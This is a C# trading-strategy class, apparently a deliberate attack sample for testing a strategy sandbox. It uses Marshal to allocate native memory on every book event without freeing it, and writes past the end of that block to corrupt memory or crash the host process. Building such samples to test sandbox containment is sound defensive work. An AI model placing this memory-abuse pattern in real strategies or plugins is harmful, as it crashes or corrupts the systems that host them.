// Abuses: Marshal reads and writes any address given as a number: no unsafe code, no P/Invoke of our own.
// Harm: native memory that is never freed; a write to a wrong address ends the process.
// Kind: hurts another slot or the process.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Runtime.InteropServices;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.MarshalReadWriteAttack;

public sealed class MarshalReadWriteStrategy : Strategy
{
    private nint _block;

    public override void OnBook(in BookEvent bookEvent)
    {
        _block = Marshal.AllocHGlobal(1 << 20);
        Marshal.WriteInt64(_block, 1 << 20, _n);
        Act(Marshal.ReadInt64(_block, 8) + Marshal.GetLastPInvokeError());
    }

    public override void OnStart() => Context.Subscribe(new InstrumentId(1));

    private long _n;

    private void Act(long leak)
    {
        _n = _n * 31 + leak;
        Price bid = Context.Book(new InstrumentId(1)).BestBid.Price;
        if ((_n & 1) == 0 && bid.Raw > 0)
        {
            Context.Send(NewOrder.Limit(new InstrumentId(1), Side.Buy, bid, 100, tag: _n & 0xFF));
        }
    }

    public override void Save(ref StateWriter writer) => writer.Write(_n);

    public override void Restore(ref StateReader reader) => _n = reader.ReadInt64();
}
